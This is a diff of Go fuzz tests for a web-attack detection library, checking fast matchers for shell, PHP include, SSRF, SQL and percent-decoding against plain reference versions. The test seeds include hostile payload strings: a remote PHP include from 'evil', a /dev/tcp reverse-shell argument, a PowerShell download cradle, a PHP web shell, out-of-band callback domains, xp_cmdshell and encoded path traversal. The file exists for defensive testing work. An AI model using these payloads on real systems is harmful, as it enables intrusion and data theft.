@@ -1,9 +1,11 @@
 package signature
 
 import (
+	"bytes"
 	"encoding/binary"
 	"strings"
 	"testing"
+	"unicode/utf8"
 
 	"github.com/bulwarkhq/bulwark/threat"
 )
@@ -408,7 +410,7 @@ func quadFindPlain(q *quadset, b []byte, bounded bool) (match, bool) {
 		if q.bits[h>>6]&(1<<(h&63)) == 0 {
 			continue
 		}
-		for _, c := range q.set.byFirst[b[i]] {
+		for _, c := range q.set.byFirst.at(b[i]) {
 			kw := q.set.kws[c.k]
 			j := i + len(kw)
 			if j <= len(b) && string(b[i:j]) == string(kw) && (!bounded || boundary(b, i, j, kw)) {
@@ -428,7 +430,7 @@ func quadGroupsFindPlain(g *quadGroups, b []byte, out []groupMatch) {
 		if q.bits[h>>6]&(1<<(h&63)) == 0 {
 			continue
 		}
-		for _, c := range q.set.byFirst[b[i]] {
+		for _, c := range q.set.byFirst.at(b[i]) {
 			n := g.group[c.k]
 			if out[n].ok {
 				continue
@@ -605,7 +607,7 @@ func FuzzNextByte(f *testing.F) {
 	f.Add("../..;/?*x && y || z;")
 	f.Add("\x00\xff(((((((((((((((((")
 	f.Fuzz(func(t *testing.T, s string) {
-		for _, fd := range []*byteFinder{styleBytes, sinkBytes, breakoutBytes, dotBytes, parenBytes} {
+		for _, fd := range []*byteFinder{styleBytes, sinkBytes, breakoutBytes, dotBytes, parenBytes, opFinder, quoteBytes, lineBreaks} {
 			for i := 0; i <= len(s); i++ {
 				want := len(s)
 				for k := i; k < len(s); k++ {
@@ -679,6 +681,26 @@ func FuzzCountWords(f *testing.F) {
 	})
 }
 
+// FuzzLineWords checks lineWords, asked at offsets that only grow,
+// against counting from the start with the plain loop: the same count
+// and plainness up to two words, three or more otherwise.
+func FuzzLineWords(f *testing.F) {
+	f.Add("ls -la | grep foo && echo done", uint8(3))
+	f.Add("a\tb  c\nd;e`f` $(g) x>y\r\n one two three four five; six", uint8(1))
+	f.Add(strings.Repeat("word ", 40)+"\n x y\n", uint8(7))
+	f.Fuzz(func(t *testing.T, s string, step uint8) {
+		b := []byte(s)
+		lw := newLineWords(b)
+		for i := 0; i < len(b); i += int(step%9) + 1 {
+			gw, gp := lw.at(i)
+			ww, wp := countWordsPlain(b, 0, i, 0, true)
+			if ww <= 2 && (gw != ww || gp != wp) || ww > 2 && gw < 3 {
+				t.Fatalf("lineWords(%q).at(%d) = %d %v, want %d %v", b, i, gw, gp, ww, wp)
+			}
+		}
+	})
+}
+
 // FuzzByteCursor checks byteCursor against a plain search, for queries
 // that go forward and, now and then, back, on strings and byte slices,
 // short (read with nextByte) and long.
@@ -696,7 +718,7 @@ func FuzzByteCursor(f *testing.F) {
 			}
 			return len(s)
 		}
-		for _, fd := range []*byteFinder{styleBytes, sinkBytes, breakoutBytes, dotBytes, parenBytes} {
+		for _, fd := range []*byteFinder{styleBytes, sinkBytes, breakoutBytes, dotBytes, parenBytes, opFinder, quoteBytes, lineBreaks} {
 			cs, cb := newCursor(fd, s), newCursor(fd, []byte(s))
 			r := steps
 			for i, n := 0, 0; i <= len(s)+1 && n < 4*len(s)+8; n++ {
@@ -742,24 +764,100 @@ func FuzzASCIIWithout(f *testing.F) {
 	})
 }
 
-// FuzzRunEnd checks runEnd, eight bytes at a time, against a byte loop,
-// from every offset, for the folds' tables, strings and byte slices.
-func FuzzRunEnd(f *testing.F) {
-	f.Add("plain prose of some length, with no specials at all until here/")
-	f.Add("Mixed CASE text 0 2 5 % \\ / $ ; | ` ' \" end")
+// phpIncludePlain is phpInclude as first written: from each occurrence
+// of the keywords.
+func phpIncludePlain(lo []byte) (int, int) {
+	for _, kw := range [...]string{"include", "require"} {
+		for off := 0; off < len(lo); {
+			k := indexRare(lo[off:], kw)
+			if k < 0 {
+				break
+			}
+			i := off + k
+			off = i + len(kw)
+			if i > 0 && isWord(lo[i-1]) {
+				continue
+			}
+			j := off
+			if bytes.HasPrefix(lo[j:], []byte("_once")) {
+				j += 5
+			}
+			a := skipSpace(lo, j)
+			if a == j || a >= len(lo) || lo[a] != '\'' && lo[a] != '"' {
+				continue
+			}
+			for _, p := range [...]string{"http:", "https:", "ftp:", "php:", "data:", "expect:", "zip:", "phar:", "//", "\\\\"} {
+				if bytes.HasPrefix(lo[a+1:], []byte(p)) {
+					return i, a + 1 + len(p)
+				}
+			}
+		}
+	}
+	return -1, -1
+}
+
+// FuzzPHPInclude checks phpInclude, read from the quotes, against the
+// plain form.
+func FuzzPHPInclude(f *testing.F) {
+	for _, s := range []string{"include 'http://evil/x.txt';", "require_once  \"php://input\"", "x; require 'ftp:a' include\t'//b'",
+		"include'http:", "xinclude 'http:", "_once 'http:", "include_once_once 'zip:", "it's include \"data:x\" and require 'phar:",
+		"require 'http: include 'data:", "\\\\ include \t \"\\\\srv\"", "include \"expect:"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		lo := []byte(strings.ToLower(s))
+		gi, gj := phpInclude(lo)
+		wi, wj := phpIncludePlain(lo)
+		if gi != wi || gj != wj {
+			t.Fatalf("phpInclude(%q) = %d %d, want %d %d", lo, gi, gj, wi, wj)
+		}
+	})
+}
+
+// testNeedles mix needles found with indexPair, needles sharing a rare
+// byte and needles of one rare byte.
+var testNeedles = needlesOf("oast", "the", "ea", "x.y", "a.b", "..", "\x00\x00", "tt")
+
+// FuzzNeedles checks needleSet.index against indexRare for the needle
+// sets of the families.
+func FuzzNeedles(f *testing.F) {
+	f.Add("x.oast.pro toast interact.sh dnslog.cn. ceye.io burpcollaborator.net")
+	f.Add("iex(new-object net.webclient).downloadstring('x') -expression base64string bitstransfer")
+	f.Add("toast the sea, x.y; a.b .. tt and the boast of oast.me: ttt\x00\x00")
 	f.Add("")
 	f.Fuzz(func(t *testing.T, s string) {
-		for _, tbl := range []*[256]bool{&pathPlain, &shellPlain} {
-			for j := 0; j <= len(s); j++ {
-				want := j
-				for want < len(s) && tbl[s[want]] {
+		b := []byte(s)
+		for _, ns := range []*needleSet{oobAnchors, cradleAnchors, testNeedles} {
+			at := make([]int, len(ns.needles))
+			ns.index(b, at)
+			for n, nd := range ns.needles {
+				if want := indexRare(b, nd); at[n] != want {
+					t.Fatalf("index(%q)[%q] = %d, want %d", b, nd, at[n], want)
+				}
+			}
+		}
+	})
+}
+
+// FuzzNextMarked checks nextMarked, eight bytes at a time, against a
+// byte loop, from every offset, for its tables, strings and byte slices.
+func FuzzNextMarked(f *testing.F) {
+	f.Add("plain prose of some length, with no specials at all until here/")
+	f.Add("Mixed CASE text 0 2 5 % \\ / $ ; | ` ' \" end")
+	f.Add("x=1; y(2) <a> \n\r @b:c, d|e & f")
+	f.Add("")
+	f.Fuzz(func(t *testing.T, s string) {
+		for _, tbl := range []*[256]uint8{&pathSpecial, &shellSpecialMarks, &openerMarks} {
+			for j := -1; j <= len(s); j++ {
+				want := max(j, 0)
+				for want < len(s) && tbl[s[want]] == 0 {
 					want++
 				}
-				if got := runEnd(tbl, s, j); got != want {
-					t.Fatalf("runEnd(%q, %d) = %d, want %d", s, j, got, want)
+				if got := nextMarked(tbl, s, j); got != want {
+					t.Fatalf("nextMarked(%q, %d) = %d, want %d", s, j, got, want)
 				}
-				if got := runEnd(tbl, []byte(s), j); got != want {
-					t.Fatalf("runEnd([]byte(%q), %d) = %d, want %d", s, j, got, want)
+				if got := nextMarked(tbl, []byte(s), j); got != want {
+					t.Fatalf("nextMarked([]byte(%q), %d) = %d, want %d", s, j, got, want)
 				}
 			}
 		}
@@ -806,5 +904,252 @@ func FuzzCommandTokens(f *testing.F) {
 		if got := commandTokens[w]; got != want {
 			t.Fatalf("commandTokens[%q] = %v, want %v", w, got, want)
 		}
+	})
+}
+
+// tokenShapedPlain is tokenShaped as first written, with bytes.TrimRight.
+func tokenShapedPlain(t []byte) bool {
+	if len(t) == 2 && t[1] == ':' && isLetter(t[0]) {
+		return true
+	}
+	t = bytes.TrimRight(t, ".,!?:")
+	if len(t) == 0 {
+		return false
+	}
+	for _, x := range t {
+		if !isLetter(x) && x != '\'' && x < 0x80 {
+			return true
+		}
+	}
+	return false
+}
+
+// FuzzArgTokens checks what readArgs does with a token without the
+// library calls and lookups it used to make: trimSet against bytes.Trim,
+// tokenShaped against its plain form, the filter of commandTokens, and
+// that hostileArg finds no hostile argument of a command hostileArgsOf
+// leaves out unless it starts with '%' or '/'.
+func FuzzArgTokens(f *testing.F) {
+	f.Add("'%SYSTEMROOT%'", "cmd", true)
+	f.Add("/dev/tcp/1.2.3.4/80", "bash", false)
+	f.Add("\"x)#", "cat", true)
+	f.Add("hello,", "echo", false)
+	f.Add("10", "sleep", true)
+	f.Fuzz(func(t *testing.T, tok, name string, first bool) {
+		b := []byte(tok)
+		if got, want := trimSet(b, &argTrim), bytes.Trim(b, "'\")#"); string(got) != string(want) {
+			t.Fatalf("trimSet(%q) = %q, want %q", b, got, want)
+		}
+		if got, want := tokenShaped(b), tokenShapedPlain(b); got != want {
+			t.Fatalf("tokenShaped(%q) = %v, want %v", b, got, want)
+		}
+		if commandTokens[tok] && !commandTokenWords.may(b) {
+			t.Fatalf("commandTokenWords misses %q", tok)
+		}
+		for _, n := range []string{name, "cmd", "curl", "ping", "sleep", "which", "echo", "cat", "ls"} {
+			c := &command{name: []byte(n)}
+			if len(b) > 0 && !hostileArgsOf(c.name) && !(len(b) > 2 && (b[0] == '%' || b[0] == '/')) {
+				for _, line := range []bool{false, true} {
+					if hostileArg(c, b, first, line) {
+						t.Fatalf("hostileArg(%q, %q) is true, but readArgs does not ask", n, b)
+					}
+				}
+			}
+		}
+	})
+}
+
+// TestCommandTokenWords checks that every name of commandTokens passes
+// its filter.
+func TestCommandTokenWords(t *testing.T) {
+	for w := range commandTokens {
+		if !commandTokenWords.may([]byte(w)) {
+			t.Errorf("commandTokenWords misses %q", w)
+		}
+	}
+}
+
+// unpercentPlain is unpercent as first written: every byte appended and
+// the escapes it completes undone.
+func unpercentPlain(buf []byte, s string, plus bool) (out []byte, exotic int) {
+	for i := 0; i < len(s); i++ {
+		if s[i] == '+' && plus {
+			buf = append(buf, ' ')
+			continue
+		}
+		buf = append(buf, s[i])
+		for level := 0; level < 4; level++ {
+			n := len(buf)
+			if n >= 3 && buf[n-3] == '%' && isHex(buf[n-2]) && isHex(buf[n-1]) {
+				c := unhex1(buf[n-2])<<4 | unhex1(buf[n-1])
+				buf = append(buf[:n-3], c)
+				if c == '%' || level > 0 {
+					exotic++
+				}
+				continue
+			}
+			if n >= 4 && buf[n-4] == '%' && isHex(buf[n-3]) && buf[n-2] == '%' && isHex(buf[n-1]) {
+				if c := unhex1(buf[n-3])<<4 | unhex1(buf[n-1]); c == '.' || c == '/' || c == '\\' {
+					buf = append(buf[:n-4], c)
+					exotic++
+					continue
+				}
+			}
+			if n >= 6 && buf[n-6] == '%' && (buf[n-5] == 'u' || buf[n-5] == 'U') &&
+				isHex(buf[n-4]) && isHex(buf[n-3]) && isHex(buf[n-2]) && isHex(buf[n-1]) {
+				r := rune(unhex1(buf[n-4]))<<12 | rune(unhex1(buf[n-3]))<<8 | rune(unhex1(buf[n-2]))<<4 | rune(unhex1(buf[n-1]))
+				buf = utf8.AppendRune(buf[:n-6], r)
+				exotic++
+				continue
+			}
+			break
+		}
+	}
+	return buf, exotic
+}
+
+// FuzzUnpercent checks unpercent, which copies runs without escapes
+// whole, against the plain form, after a prefix already in the buffer.
+func FuzzUnpercent(f *testing.F) {
+	f.Add("", "the+quick%2C+brown+fox%3A+%22x%22", true)
+	f.Add("a%", "2e%2e%252f..%2%f%u002e%U2215+x", false)
+	f.Add("%u00", "2e and %%32%65 plain text here", true)
+	f.Add("", "%25%32%65%25%32%65%2f%c0%ae", false)
+	f.Fuzz(func(t *testing.T, prefix, s string, plus bool) {
+		gb, ge := unpercent([]byte(prefix), s, plus)
+		wb, we := unpercentPlain([]byte(prefix), s, plus)
+		if string(gb) != string(wb) || ge != we {
+			t.Fatalf("unpercent(%q, %q, %v) = %q %d, want %q %d", prefix, s, plus, gb, ge, wb, we)
+		}
+	})
+}
+
+// FuzzEscapedBackslash checks escapedBackslash against strings.Contains.
+func FuzzEscapedBackslash(f *testing.F) {
+	f.Add("a%5cb")
+	f.Add("%5%5C")
+	f.Add("%%5")
+	f.Add("x%2C+y%5")
+	f.Fuzz(func(t *testing.T, s string) {
+		want := strings.Contains(s, "%5c") || strings.Contains(s, "%5C")
+		if got := escapedBackslash(s); got != want {
+			t.Fatalf("escapedBackslash(%q) = %v, want %v", s, got, want)
+		}
+	})
+}
+
+// FuzzReplaceByte checks replaceByte, eight bytes at a time, against
+// bytes.ReplaceAll.
+func FuzzReplaceByte(f *testing.F) {
+	f.Add("the+quick+brown+fox+++jumps", byte('+'), byte(' '))
+	f.Add("\x00\x80\xff+\xab\x2b\xab", byte(0xab), byte(0))
+	f.Fuzz(func(t *testing.T, s string, old, new byte) {
+		got := []byte(s)
+		replaceByte(got, old, new)
+		if want := bytes.ReplaceAll([]byte(s), []byte{old}, []byte{new}); string(got) != string(want) {
+			t.Fatalf("replaceByte(%q, %q, %q) = %q, want %q", s, old, new, got, want)
+		}
+	})
+}
+
+// FuzzIndexPair checks indexPair against bytes.Index, at every alignment
+// of the value.
+func FuzzIndexPair(f *testing.F) {
+	f.Add("the toast of the coast: oast.me", "oast")
+	f.Add("aaaaaaaaaaaaaaaaab", "ab")
+	f.Add("\x80\x81\x80\x81\x00\x00\x00\x00\x00\x00\x00\x00\x00", "\x00\x00")
+	f.Fuzz(func(t *testing.T, s, needle string) {
+		if len(needle) < 2 {
+			return
+		}
+		for pad := 0; pad < 9; pad++ {
+			b := []byte(strings.Repeat("~", pad) + s)
+			if got, want := indexPair(b, needle), bytes.Index(b, []byte(needle)); got != want {
+				t.Fatalf("indexPair(%q, %q) = %d, want %d", b, needle, got, want)
+			}
+		}
+	})
+}
+
+// FuzzSQLWordEnd checks sqlWordEnd, eight bytes at a time, against a byte
+// loop, from every offset.
+func FuzzSQLWordEnd(f *testing.F) {
+	f.Add("select_1$x from t where a=1 AND b@c[d]`e`{f} \x80\xff\x7f ZZzz09:;?")
+	f.Add("abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ 0123456789 _$")
+	f.Add("")
+	f.Fuzz(func(t *testing.T, s string) {
+		for j := 0; j <= len(s); j++ {
+			want := j
+			for want < len(s) && sqlWordByte(s[want]) {
+				want++
+			}
+			if got := sqlWordEnd(s, j); got != want {
+				t.Fatalf("sqlWordEnd(%q, %d) = %d, want %d", s, j, got, want)
+			}
+		}
+	})
+}
+
+// TestSQLWordEndBytes checks sqlWordEnd on every byte, before a word
+// byte and a non-word one, at every position of a block.
+func TestSQLWordEndBytes(t *testing.T) {
+	for c := 0; c < 256; c++ {
+		for pos := 0; pos < 9; pos++ {
+			for _, fill := range []byte{'a', ' '} {
+				b := []byte(strings.Repeat("a", pos) + string([]byte{byte(c)}) + strings.Repeat(string([]byte{fill}), 9))
+				want := 0
+				for want < len(b) && sqlWordByte(b[want]) {
+					want++
+				}
+				if got := sqlWordEnd(string(b), 0); got != want {
+					t.Fatalf("sqlWordEnd(%q) = %d, want %d", b, got, want)
+				}
+			}
+		}
+	}
+}
+
+// FuzzSQLPairLens checks that sqlPairLens lets every word sqlKeyword
+// knows through: the lexer's loop asks sqlKeyword only about those.
+func FuzzSQLPairLens(f *testing.F) {
+	for w := range sqlWords {
+		f.Add(w)
+		f.Add(strings.ToUpper(w))
+	}
+	f.Add("xp_cmdshell")
+	f.Add("Sp_OACreate")
+	f.Add("the")
+	f.Fuzz(func(t *testing.T, w string) {
+		if sqlKeyword(w) == kwNone {
+			return
+		}
+		if n := len(w); n < 2 || n > sqlMaxWord || sqlPairLens[sqlPair(w[0], w[1])]&(1<<n) == 0 {
+			t.Fatalf("sqlPairLens misses %q, keyword %d", w, sqlKeyword(w))
+		}
+	})
+}
+
+// FuzzSharedLower checks that the families reading the shared lower-cased
+// copy of a long value (input.lowerValue: the SSRF and code families)
+// leave it as lowerValue made it: a family that wrote into it would change
+// what the next one reads.
+func FuzzSharedLower(f *testing.F) {
+	f.Add("see http://127.0.0.1:6379/ and include 'http://evil/x.txt'; __import__('os').system('id') oast.fun ", 6)
+	f.Add("Ⓛocalhost \\\\srv\\share <?php system($_GET['c']); ?> GOPHER://[::1]/_x", 9)
+	f.Fuzz(func(t *testing.T, s string, n int) {
+		v := strings.Repeat(s, 1+min(max(n, 0), 64)) // past the families' stack buffers
+		if len(v) <= 512 {
+			v += strings.Repeat(" x", 300)
+		}
+		in := &input{src: threat.SourceQuery, name: "q", value: v, m: classify(v)}
+		var seen rules
+		scanSSRF(in, &seen, nil)
+		scanCode(in, &seen, nil)
+		if in.lowered {
+			if want := lower(nil, v); !bytes.Equal(in.lo, want) {
+				t.Fatalf("the shared lower-cased copy of %q changed", v)
+			}
+		}
+		in.release()
 	})
 }
